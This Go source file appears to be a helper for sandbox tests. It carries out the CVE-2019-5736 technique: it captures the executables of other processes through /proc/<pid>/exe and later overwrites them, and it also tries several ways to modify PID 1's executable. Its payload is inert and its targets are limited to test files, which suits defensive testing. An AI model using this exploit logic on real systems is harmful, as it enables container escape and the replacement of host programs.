package main

import (
	"errors"
	"fmt"
	"os"
	"slices"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// payload is what an overwritten executable would begin with.
const payload = "#!/bin/sh\n# overwritten\n"

// hunt is CVE-2019-5736 from the side of a program that waits inside: it opens
// the executable of every process that appears and is not of this program, keeps
// it open, and once that process is gone and the executable no longer busy,
// opens it again for writing by way of its own descriptor.
//
// Its arguments are the sizes in bytes of what it may overwrite: the tests' own
// files and copies of them. Where the sandbox is none, it would otherwise be the
// machine's programs that are overwritten. It ends when standard input does.
func hunt(sizes []string) error {
	var own unix.Stat_t
	if err := unix.Stat("/proc/self/exe", &own); err != nil {
		return err
	}
	over := make(chan struct{})
	go func() {
		var b [1]byte
		for {
			if n, err := os.Stdin.Read(b[:]); n == 0 || err != nil {
				close(over)
				return
			}
		}
	}()
	fmt.Fprintln(os.Stdout, "ready")
	handles := map[[2]uint64]int{}
	for {
		select {
		case <-over:
			return overwriteAll(handles)
		default:
			look(own, sizes, handles)
		}
	}
}

// look takes every executable that is in sight.
func look(own unix.Stat_t, sizes []string, handles map[[2]uint64]int) {
	for _, pid := range pids() {
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		key := [2]uint64{}
		if err := unix.Fstat(fd, &st); err == nil {
			key = [2]uint64{st.Dev, st.Ino}
		}
		_, have := handles[key]
		if have || (st.Dev == own.Dev && st.Ino == own.Ino) || !slices.Contains(sizes, strconv.FormatInt(st.Size, 10)) {
			unix.Close(fd)
			continue
		}
		handles[key] = fd
		fmt.Fprintln(os.Stdout, "captured", pid)
	}
}

func overwriteAll(handles map[[2]uint64]int) error {
	for _, fd := range handles {
		fmt.Fprintln(os.Stdout, "overwrite", errnoName(overwrite(fd)))
	}
	fmt.Fprintln(os.Stdout, "done")
	return nil
}

// overwrite writes the payload to the file of a read-only descriptor. While the
// file is executed the kernel says ETXTBSY; that ends.
func overwrite(fd int) error {
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	deadline := time.Now().Add(2 * time.Second)
	for {
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if errors.Is(err, unix.ETXTBSY) && time.Now().Before(deadline) {
			<-time.After(time.Millisecond)
			continue
		}
		if err != nil {
			return err
		}
		_, err = unix.Write(w, []byte(payload))
		return errors.Join(err, unix.Close(w))
	}
}

// overwritePID1 tries all ways to change the executable of PID 1 that need no
// end of it.
func overwritePID1([]string) error {
	const exe = "/proc/1/exe"
	fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	fmt.Fprintln(os.Stdout, "open", errnoName(err))
	if err != nil {
		return err
	}
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return err
	}
	fmt.Fprintf(os.Stdout, "inode %d:%d\n", st.Dev, st.Ino)
	link, _ := os.Readlink(exe)
	fmt.Fprintln(os.Stdout, "link", link)
	fmt.Fprintln(os.Stdout, "open-for-writing", errnoName(openForWriting(exe)))
	fmt.Fprintln(os.Stdout, "truncate", errnoName(unix.Truncate(exe, 0)))
	fmt.Fprintln(os.Stdout, "chmod", errnoName(unix.Chmod(exe, 0o777)))
	fmt.Fprintln(os.Stdout, "reopen", errnoName(openForWriting(fmt.Sprintf("/proc/self/fd/%d", fd))))
	mapping := fmt.Sprintf("/proc/%d/mem", 1)
	fmt.Fprintln(os.Stdout, "memory", errnoName(openForWriting(mapping)))
	seals, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
	fmt.Fprintln(os.Stdout, "seals", seals, errnoName(err))
	var sfs unix.Statfs_t
	if err := unix.Fstatfs(fd, &sfs); err == nil {
		fmt.Fprintln(os.Stdout, "read-only-mount", sfs.Flags&unix.ST_RDONLY != 0)
	}
	return nil
}
